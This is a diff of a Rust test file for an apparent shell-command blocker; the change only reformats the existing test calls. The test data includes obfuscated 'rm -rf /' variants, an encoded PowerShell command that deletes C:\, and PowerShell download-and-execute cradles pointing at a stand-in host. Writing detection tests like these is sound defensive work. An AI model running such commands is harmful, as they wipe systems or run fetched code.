@@ -4,12 +4,30 @@ use super::blocked_by;
 
 #[test]
 fn quoting_tricks_do_not_hide_the_program() {
-    blocked_by("root-delete", &["r''m -rf /", "\"r\"m -rf /", "\\rm -rf /", "r\\m -rf /", "'rm' -rf /"]);
+    blocked_by(
+        "root-delete",
+        &[
+            "r''m -rf /",
+            "\"r\"m -rf /",
+            "\\rm -rf /",
+            "r\\m -rf /",
+            "'rm' -rf /",
+        ],
+    );
 }
 
 #[test]
 fn combined_and_long_flags_are_the_same_flags() {
-    blocked_by("root-delete", &["rm -rf /", "rm -fr /", "rm -r -f /", "rm --recursive --force /", "rm -Rf /"]);
+    blocked_by(
+        "root-delete",
+        &[
+            "rm -rf /",
+            "rm -fr /",
+            "rm -r -f /",
+            "rm --recursive --force /",
+            "rm -Rf /",
+        ],
+    );
 }
 
 #[test]
@@ -104,7 +122,19 @@ fn literal_payloads_are_decoded() {
 #[test]
 fn powershell_forms() {
     let enc = "ZABlAGwAIAAtAHIAZQBjAHUAcgBzAGUAIAAtAGYAbwByAGMAZQAgAEMAOgBcAA=="; // del -recurse -force C:\
-    blocked_by("windows-root-delete", &[&format!("powershell -enc {enc}"), &format!("pwsh -EncodedCommand {enc}")]);
-    blocked_by("ps-download-cradle", &["powershell -c \"I`EX (iwr http://x.example/a)\""]);
-    blocked_by("download-exec", &["powershell.exe -nop -c \"iwr http://x.example/a | iex\""]);
+    blocked_by(
+        "windows-root-delete",
+        &[
+            &format!("powershell -enc {enc}"),
+            &format!("pwsh -EncodedCommand {enc}"),
+        ],
+    );
+    blocked_by(
+        "ps-download-cradle",
+        &["powershell -c \"I`EX (iwr http://x.example/a)\""],
+    );
+    blocked_by(
+        "download-exec",
+        &["powershell.exe -nop -c \"iwr http://x.example/a | iex\""],
+    );
 }
